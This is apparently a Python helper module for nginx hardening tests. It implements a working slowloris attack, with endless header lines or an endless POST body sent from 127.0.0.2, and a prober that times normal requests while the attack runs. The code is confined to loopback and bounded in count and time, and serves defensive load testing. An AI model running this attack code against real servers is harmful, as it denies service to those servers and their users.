"""Slow clients for the hardening tests: a slowloris attack from one loopback address, and a prober that
measures what normal visitors get meanwhile from another. Loopback only, bounded in count and time.

The whole of 127.0.0.0/8 is loopback on Linux, so the attack binds 127.0.0.2 as its source while normal
requests come from 127.0.0.1: to nginx they are two different client addresses.
"""

import asyncio
import resource
import threading
import time
from dataclasses import dataclass, field

import requests

ATTACKER_ADDRESS = "127.0.0.2"


@dataclass
class AttackReport:
    opened: int = 0
    failed_to_open: int = 0
    closed_by_server: int = 0
    peak_open: int = 0
    open_now: int = 0


async def _drip(host: str, port: int, report: AttackReport, drip_every: float, until: float, body: bool) -> None:
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(ATTACKER_ADDRESS, 0))
    except OSError:
        report.failed_to_open += 1
        return
    report.opened += 1
    report.open_now += 1
    report.peak_open = max(report.peak_open, report.open_now)
    try:
        if body:  # a complete header, then a body that never ends
            writer.write(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n")
        else:  # a header that never ends
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        await writer.drain()
        line = 0
        while time.monotonic() < until:
            try:
                await asyncio.wait_for(reader.read(1024), timeout=drip_every)
                report.closed_by_server += 1  # an answer (408, 400) or EOF: the server let go of us
                return
            except TimeoutError:
                line += 1
                writer.write(b"a" if body else f"X-Drip-{line}: 1\r\n".encode())
                await writer.drain()
    except OSError:
        report.closed_by_server += 1
    finally:
        report.open_now -= 1
        writer.close()


async def _attack(host: str, port: int, count: int, rate: float, drip_every: float, duration: float, body: bool,
                  report: AttackReport) -> None:  # fmt: skip
    until = time.monotonic() + duration
    tasks = []
    for _ in range(count):
        tasks.append(asyncio.create_task(_drip(host, port, report, drip_every, until, body)))
        await asyncio.sleep(1 / rate)
    await asyncio.gather(*tasks)


def raise_open_files_limit(needed: int) -> None:
    """Each slow connection is a descriptor of this process too."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < needed:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(needed, hard), hard))


@dataclass
class SlowAttack:
    """A slowloris (or slow body) attack running in a thread of its own."""

    host: str
    port: int
    count: int
    rate: float
    drip_every: float
    duration: float
    body: bool = False
    report: AttackReport = field(default_factory=AttackReport)

    def __post_init__(self) -> None:
        raise_open_files_limit(self.count + 1024)
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        asyncio.run(_attack(self.host, self.port, self.count, self.rate, self.drip_every, self.duration, self.body,
                            self.report))  # fmt: skip

    def __enter__(self) -> "SlowAttack":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._thread.join(self.duration + 30)
        assert not self._thread.is_alive(), "the attack did not end within its bound"

    @property
    def running(self) -> bool:
        return self._thread.is_alive()


@dataclass
class Probe:
    status: int | None
    seconds: float


def probe_while(url: str, attack: SlowAttack, every: float = 0.1, timeout: float = 5) -> list[Probe]:
    """GET `url` every `every` seconds, as a normal visitor, for as long as the attack runs."""
    probes = []
    while attack.running:
        started = time.monotonic()
        try:
            status: int | None = requests.get(url, timeout=timeout).status_code
        except requests.RequestException:
            status = None
        probes.append(Probe(status, time.monotonic() - started))
        time.sleep(max(0.0, every - (time.monotonic() - started)))
    return probes
